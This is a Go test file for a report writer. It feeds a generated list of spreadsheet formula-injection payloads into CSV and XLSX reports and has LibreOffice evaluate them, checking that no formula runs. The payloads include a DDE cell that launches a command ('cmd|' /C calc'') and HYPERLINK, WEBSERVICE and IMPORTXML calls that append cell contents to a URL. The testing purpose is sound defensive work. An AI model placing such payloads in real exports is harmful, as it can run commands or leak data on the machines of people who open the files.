//go:build oracle

package writer_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"hppsend/pipeline"
	"hppsend/writer"
)

// payloads are cells that spreadsheet programs have been made to run: what begins a formula, in each
// form, before what it would do.
func payloads() (out []string) {
	begins := []string{
		"=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\ufeff=", "\u200b=", "'=", `"=`, ";=", ",=",
		"+-", "-+", "=-", "=+", "%=", "|", "\\=", "\u2212", "{=", "==",
	}
	does := []string{
		"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://example.com/?"&A1,"see")`, `WEBSERVICE("http://example.com/"&A2)`,
		`IMPORTXML("http://example.com","//a")`, `DDE("soffice";"a.ods";"A1")`, "SUM(A1:A9)", `1+1";=1+1;"`, "1+1\n=1+1", "A1", `INDIRECT("A1")`,
	}
	for _, b := range begins {
		for _, d := range does {
			out = append(out, b+d)
		}
	}
	for _, separator := range []string{",", ";", "\t", "|", "\n", "\r\n"} {
		for _, b := range []string{"=", "+", "-", "@", `"=`, `""=`, "'=", "＝"} {
			out = append(out, "a"+separator+b+"1+1"+separator+"b", "a"+separator+b+"SUM(A1:A9)", separator+b+`1+1`+separator+`"`)
		}
	}
	return out
}

// TestOracleRunsNoFormula opens reports full of payloads in LibreOffice, which is told to evaluate what
// it takes for a formula, and looks for any that it found.
func TestOracleRunsNoFormula(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("only %d payloads", len(all))
	}
	for _, format := range []pipeline.Format{pipeline.CSV, pipeline.XLSX} {
		for _, delimiter := range []rune{',', ';'} {
			t.Run(fmt.Sprintf("%s %c", format, delimiter), func(t *testing.T) {
				dir := t.TempDir()
				path := filepath.Join(dir, "report."+string(format))
				in := pipeline.Input{Path: "in.csv", Columns: []string{"session_id", "phone", "=1+1"}, Dialect: pipeline.Dialect{Delimiter: delimiter}}
				r, err := writer.Create(path, format, in, false)
				if err != nil {
					t.Fatal(err)
				}
				defer r.Abort()
				for i, p := range all { // in a cell of theirs, and in one that the server speaks in
					row := pipeline.Row{Place: pipeline.Place{Row: i + 2}, Cells: []pipeline.Cell{{Text: "s"}, {Text: "+46701740605"}, {Text: p}}}
					if err := r.Write(row, pipeline.Outcome{Status: pipeline.Rejected, Code: p, Reason: p, CorrelationID: p}); err != nil {
						t.Fatal(err)
					}
				}
				r.Summarise(writer.Summary{File: "=1+1", Label: "@SUM(A1)", Target: "+1+1"})
				finish(t, r, path)
				if format == pipeline.XLSX {
					noFormula(t, dir, path, "Report", "", len(all))
					return
				}
				for _, country := range []rune{',', ';', '\t'} { // the separator of whoever opens it
					noFormula(t, dir, path, "report",
						fmt.Sprintf("--infilter=Text - txt - csv (StarCalc):%d,34,76,1,,0,false,true,false,false,false,0,true", country), len(all))
				}
			})
		}
	}
}

// noFormula has LibreOffice open a report and looks for formulas in a sheet.
func noFormula(t *testing.T, dir, path, sheet, filter string, least int) {
	t.Helper()
	args := []string{"-env:UserInstallation=file://" + dir + "/profile", "--headless", "--convert-to", "fods", "--outdir", dir}
	if filter != "" {
		args = append(args, filter) // …,true: evaluate formulas
	}
	if out, err := exec.Command("soffice", append(args, path)...).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	text, err := os.ReadFile(filepath.Join(dir, "report.fods"))
	if err != nil {
		t.Fatal(err)
	}
	_, shown, _ := strings.Cut(string(text), `<table:table table:name="`+sheet+`"`) // after the summary's own formulas
	if found := regexp.MustCompile(`table:formula="[^"]*"`).FindAllString(shown, 3); found != nil {
		t.Errorf("%s: LibreOffice runs %q", filter, found)
	}
	if rows := strings.Count(shown, "<table:table-row"); rows < least {
		t.Errorf("%s: LibreOffice shows %d rows of %d", filter, rows, least)
	}
}

// TestOracleReadsTheReport has openpyxl read a workbook cell by cell: the values of people, our columns,
// and the numbers that the summary's formulas show to programs that do not calculate.
func TestOracleReadsTheReport(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "report.xlsx")
	in := pipeline.Input{Path: "in.csv", Columns: []string{"session_id", "phone", "paid"}}
	r, err := writer.Create(path, pipeline.XLSX, in, false)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Abort()
	var want [][]any
	for i := range 300 {
		status := pipeline.Statuses()[i%6]
		cells := []pipeline.Cell{{Text: fmt.Sprint("s", i)}, {Text: "+46701740605"}, {Text: fmt.Sprint(i), Kind: pipeline.CellNumber}}
		if err := r.Write(pipeline.Row{Place: pipeline.Place{Row: i + 2}, Cells: cells}, pipeline.Outcome{Status: status, Code: "x", Attempts: 1}); err != nil {
			t.Fatal(err)
		}
		want = append(want, []any{fmt.Sprint("s", i), "+46701740605", float64(i), float64(i + 2), string(status), "x"})
	}
	finish(t, r, path)
	const program = `
import json, sys, openpyxl
book = openpyxl.load_workbook(sys.argv[1], data_only=True)
rows = [[c for c in row[:6]] for row in book["Report"].iter_rows(min_row=2, values_only=True)]
counts = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0] and isinstance(row[1], int)}
json.dump({"sheets": book.sheetnames, "rows": rows, "counts": counts}, sys.stdout)
`
	out, err := exec.Command("/usr/bin/python3", "-c", program, path).Output()
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Sheets []string
		Rows   [][]any
		Counts map[string]int
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"Summary", "Report"}, got.Sheets); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(want, got.Rows); diff != "" {
		t.Error(diff)
	}
	counts := map[string]int{"delivered": 50, "rejected": 50, "failed": 50, "uncertain": 50, "skipped": 50, "pending": 50, "All rows": 300, "x": 50}
	if diff := cmp.Diff(counts, got.Counts); diff != "" {
		t.Error(diff)
	}
}
